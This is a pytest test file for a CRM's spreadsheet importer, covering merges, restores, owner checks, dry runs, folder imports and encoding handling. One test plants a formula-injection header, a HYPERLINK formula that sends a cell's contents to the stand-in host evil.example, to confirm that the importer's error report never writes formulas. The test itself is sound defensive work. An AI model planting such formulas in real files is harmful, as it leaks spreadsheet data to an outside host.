"""Attacks on the importer through merges, restores, scope, dry runs and its error report."""

from __future__ import annotations

from datetime import date, timedelta
from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import select

from app.extensions import appbuilder, db
from app.models import AuditLog, Customer, CustomerAlias, FollowUp
from app.models.org import CrmUser
from app.services import customers as customer_rules
from app.services import merge as merge_service
from tests.app.services.importing.conftest import write_xlsx
from tests.conftest import user_id

HEADERS = ["客户编号", "客户名称", "联系人姓名", "联系方式", "备注", "跟进人"]


def _code(app: Any, pk: int) -> str:
    with app.app_context():
        return db.session.get(Customer, pk).code


def _merge(app: Any, survivor: int, others: list[int]) -> None:
    with app.app_context():
        user = appbuilder.sm.find_user(username="manager")
        merge_service.merge(db.session.get(Customer, survivor), [db.session.get(Customer, pk) for pk in others], {},
                            user)
        db.session.commit()


def _snapshot(app: Any) -> list[Any]:
    with app.app_context():
        customers = [(c.id, c.code, c.name, c.contact_phone, c.note, c.owner_id, c.version, c.archived_at)
                     for c in db.session.scalars(select(Customer).order_by(Customer.id))]
        follow_ups = [(f.id, f.code, f.customer_id, f.content) for f in db.session.scalars(select(FollowUp))]
        aliases = [(a.code, a.customer_id) for a in db.session.scalars(select(CustomerAlias))]
        audit = db.session.scalar(select(AuditLog.id).where(AuditLog.object_type.in_(["Customer", "FollowUp"]))
                                  .order_by(AuditLog.id.desc()).limit(1))
        return [customers, follow_ups, aliases, audit]


def test_error_report_headers_are_text_never_formulas(app: Any, run_job: Any, tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "x.xlsx", {"s": [
        ["客户名称", "联系方式", '=HYPERLINK("http://evil.example/?"&B2,"click")'],
        ["Bad phone Co", "123", "x"]]})
    job = run_job("rep_a", path)
    assert job.rejected == 1 and job.report_path
    sheet = load_workbook(job.report_path).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_owner_whose_account_expired_is_refused_like_a_deactivated_one(app: Any, run_job: Any,
                                                                      tmp_path: Path) -> None:
    with app.app_context():
        db.session.get(CrmUser, user_id("rep_b")).expires_on = date.today() - timedelta(days=1)
        db.session.commit()
    path = write_xlsx(tmp_path / "x.xlsx", {"s": [HEADERS, ["", "Expired Owner Co", "Li", "13800000009", "", "rep_b"]]})
    job = run_job("manager", path)
    assert (job.created, job.rejected) == (0, 1), job.preview


def test_imports_by_merged_away_and_restored_codes_update_the_right_record(
        app: Any, run_job: Any, make_customer: Any, tmp_path: Path) -> None:
    a = make_customer("rep_a", name="Alpha", contact_phone="13800000001")
    b = make_customer("rep_a", name="Beta", contact_phone="13800000002")
    c = make_customer("rep_a", name="Gamma", contact_phone="13800000003")
    code_a, code_b, code_c = (_code(app, pk) for pk in (a, b, c))
    _merge(app, a, [b])
    _merge(app, a, [c])
    # B's and C's old codes both mean A now: the second row in one file is a duplicate
    path = write_xlsx(tmp_path / "u.xlsx", {"s": [HEADERS, [code_b, "Alpha", "", "13800000001", "via B", ""],
                                                   [code_c, "Alpha", "", "13800000001", "via C", ""]]})
    job = run_job("rep_a", path, mode="upsert")
    assert (job.updated, job.duplicates, job.created) == (1, 1, 0), job.preview
    with app.app_context():
        assert db.session.get(Customer, a).note == "via B"
        customer_rules.restore(db.session.get(Customer, b))
        db.session.commit()
    path = write_xlsx(tmp_path / "v.xlsx", {"s": [HEADERS, [code_b, "Beta", "", "13800000002", "B again", ""],
                                                   [code_a, "Alpha", "", "13800000001", "A again", ""]]})
    job = run_job("rep_a", path, mode="update")
    assert job.updated == 2, job.preview
    with app.app_context():
        assert db.session.get(Customer, b).note == "B again" and db.session.get(Customer, a).note == "A again"
    # another rep's survivor: the merged-away code is answered like a missing one
    path = write_xlsx(tmp_path / "w.xlsx", {"s": [HEADERS, [code_c, "Alpha", "", "13800000001", "rep_b", ""]]})
    job = run_job("rep_b", path, mode="update")
    missing = write_xlsx(tmp_path / "m.xlsx", {"s": [HEADERS, ["C19990101999", "X", "", "13800000001", "", ""]]})
    other = run_job("rep_b", missing, mode="update")
    assert job.rejected == other.rejected == 1
    assert job.preview["error"][0]["errors"].replace(code_c, "#") == \
        other.preview["error"][0]["errors"].replace("C19990101999", "#")


def test_follow_ups_by_merged_archived_and_foreign_codes(app: Any, run_job: Any, make_customer: Any,
                                                        tmp_path: Path) -> None:
    a = make_customer("rep_a", name="Alpha", contact_phone="13800000001")
    b = make_customer("rep_a", name="Beta", contact_phone="13800000002")
    archived = make_customer("rep_a", name="Old", contact_phone="13800000004")
    foreign = make_customer("rep_b", name="Theirs", contact_phone="13800000005")
    _merge(app, a, [b])
    with app.app_context():
        customer_rules.archive(db.session.get(Customer, archived), may_delete_won=True)
        db.session.commit()
    rows = [["客户编号", "跟进时间", "跟进方式", "跟进内容"],
            [_code(app, b), "2024-05-01 10:00", "电话", "to the survivor"],
            [_code(app, archived), "2024-05-01 10:00", "电话", "archived"],
            [_code(app, foreign), "2024-05-01 10:00", "电话", "foreign"],
            ["C19990101999", "2024-05-01 10:00", "电话", "missing"]]
    path = write_xlsx(tmp_path / "f.xlsx", {"s": rows})
    before = _snapshot(app)
    dry = run_job("rep_a", path, commit=False, model="follow_up")
    assert _snapshot(app) == before
    job = run_job("rep_a", path, model="follow_up")
    assert (dry.created, dry.rejected) == (job.created, job.rejected) == (1, 3), job.preview
    errors = {s["values"][3]: s["errors"] for s in job.preview["error"]}
    assert errors["foreign"].replace(_code(app, foreign), "#") == errors["missing"].replace("C19990101999", "#")
    with app.app_context():
        assert db.session.scalar(select(FollowUp.customer_id).where(FollowUp.content == "to the survivor")) == a


def test_dry_run_of_updates_changes_nothing(app: Any, run_job: Any, make_customer: Any, tmp_path: Path) -> None:
    a = make_customer("rep_a", name="Alpha", contact_phone="13800000001")
    rows = [HEADERS] + [[_code(app, a), "Alpha 2", "Li", "13800000001", "changed", "rep_a"]] + \
        [["", f"New {i}", "Li", f"1380000{i:04d}", "", ""] for i in range(10, 30)]
    path = write_xlsx(tmp_path / "d.xlsx", {"s": rows})
    before = _snapshot(app)
    for all_or_nothing in (False, True):
        job = run_job("rep_a", path, commit=False, mode="upsert", all_or_nothing=all_or_nothing)
        assert (job.updated, job.created) == (1, 20), job.preview
        assert _snapshot(app) == before


def test_scheduled_folder_import_run_as_an_expired_account_does_nothing(app: Any, ctx: Any, tmp_path: Path) -> None:
    from app.models import TransferSchedule
    from app.services import schedules

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    write_xlsx(inbox / "x.xlsx", {"s": [["客户名称", "联系方式"], ["Expired run-as Co", "13812345678"]]})
    db.session.get(CrmUser, user_id("rep_a")).expires_on = date.today() - timedelta(days=1)
    schedule = TransferSchedule(name="s", kind="folder_import", model="customer", cron="*/15 * * * *",
                                mode="upsert", run_as_id=user_id("rep_a"), path=str(inbox))
    db.session.add(schedule)
    db.session.commit()
    done = schedules.run(schedule)
    assert done.last_status == "failed" and (inbox / "x.xlsx").exists()
    assert db.session.query(Customer).count() == 0


def test_a_big5_csv_is_refused_not_imported_as_garbage(ctx: Any, tmp_path: Path) -> None:
    import pytest

    from app.services.importing import reading

    path = tmp_path / "tw.csv"
    path.write_bytes("客戶名稱,聯繫方式\n臺灣貿易,13800000001\n".encode("big5"))
    with pytest.raises(reading.UnreadableFile):
        reading.read_table(path)
    path.write_bytes("客户名称,联系方式\n星河科技,13800000001\n".encode("gbk"))
    assert reading.read_table(path).rows == [["星河科技", "13800000001"]]


def test_a_file_that_vanishes_during_a_folder_import_does_not_stop_the_others(
        app: Any, ctx: Any, tmp_path: Path, monkeypatch: Any) -> None:
    from app.models import TransferSchedule
    from app.services import schedules

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    write_xlsx(inbox / "a-gone.xlsx", {"s": [["客户名称", "联系方式"], ["Gone Co", "13812345678"]]})
    write_xlsx(inbox / "b-kept.xlsx", {"s": [["客户名称", "联系方式"], ["Kept Co", "13812345679"]]})
    plain = schedules._plain_file

    def vanishing(path: Path) -> bool:  # someone else takes the file between the listing and the read
        ok = plain(path)
        if path.name == "a-gone.xlsx":
            path.unlink()
        return ok

    monkeypatch.setattr(schedules, "_plain_file", vanishing)
    schedule = TransferSchedule(name="s", kind="folder_import", model="customer", cron="*/15 * * * *",
                                mode="upsert", run_as_id=user_id("rep_a"), path=str(inbox))
    db.session.add(schedule)
    db.session.commit()
    done = schedules.run(schedule)
    assert done.last_status == "done", done.last_message
    assert "a-gone.xlsx" in done.last_message and "b-kept.xlsx: 1 created" in done.last_message
    assert db.session.query(Customer).filter_by(name="Kept Co").count() == 1


def test_updating_customers_of_a_deactivated_owner_with_the_owner_column_unchanged(
        app: Any, run_job: Any, make_customer: Any, tmp_path: Path) -> None:
    """An exported list imported back: the owner cell names the current (deactivated) owner,
    which the form also keeps; naming them as a *new* owner stays refused."""
    kept = make_customer("rep_b", name="Kept owner", contact_phone="13800000001")
    moved = make_customer("rep_a", name="Moved owner", contact_phone="13800000002")
    with app.app_context():
        db.session.get(CrmUser, user_id("rep_b")).active = False
        db.session.commit()
    path = write_xlsx(tmp_path / "u.xlsx", {"s": [
        HEADERS, [_code(app, kept), "Kept owner", "", "13800000001", "new note", "rep_b"],
        [_code(app, moved), "Moved owner", "", "13800000002", "new note", "rep_b"]]})
    job = run_job("manager", path, mode="update")
    assert (job.updated, job.rejected) == (1, 1), job.preview
    with app.app_context():
        assert db.session.get(Customer, kept).note == "new note"
        assert db.session.get(Customer, moved).owner_id == user_id("rep_a")
